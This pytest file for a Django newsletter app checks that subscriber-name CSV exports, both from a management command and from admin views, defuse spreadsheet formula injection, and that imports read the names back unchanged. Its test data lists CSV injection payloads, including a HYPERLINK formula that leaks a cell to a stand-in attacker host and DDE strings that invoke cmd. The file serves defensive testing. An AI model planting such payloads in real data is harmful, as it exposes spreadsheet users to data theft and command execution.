"""Readers type their own names; a CSV of them must not run as formulas in an editor's spreadsheet."""

import csv
import io

import pytest
from django.core.management import call_command

from newsletter.models import Subscriber

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "\tTabbed"]


@pytest.fixture
def hostile_readers():
    for n, name in enumerate(HOSTILE):
        Subscriber.objects.create(email=f"reader{n}@example.org", name=name, status="confirmed")


def _names(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    column = [cell.lower() for cell in rows[0]].index("name")
    return [row[column] for row in rows[1:]]


def _all_safe(names: list[str]) -> bool:
    return sorted(names) == sorted("'" + name for name in HOSTILE)


def test_the_export_command_defuses_formulas_and_import_reads_them_back(hostile_readers, tmp_path):
    path = tmp_path / "out.csv"
    call_command("newsletter", "export", str(path))
    assert _all_safe(_names(path.read_text()))
    Subscriber.objects.all().delete()
    call_command("newsletter", "import", "--confirmed", str(path))
    assert sorted(Subscriber.objects.values_list("name", flat=True)) == sorted(HOSTILE)


def test_the_admin_exports_defuse_formulas(hostile_readers, admin_client):
    response = admin_client.get("/admin/newsletter/subscribers/?export=csv")
    assert response.status_code == 200
    assert _all_safe(_names(b"".join(response.streaming_content).decode()))
    response = admin_client.get("/admin/newsletter/digest/export.csv")
    assert _all_safe(_names(b"".join(response.streaming_content).decode()))
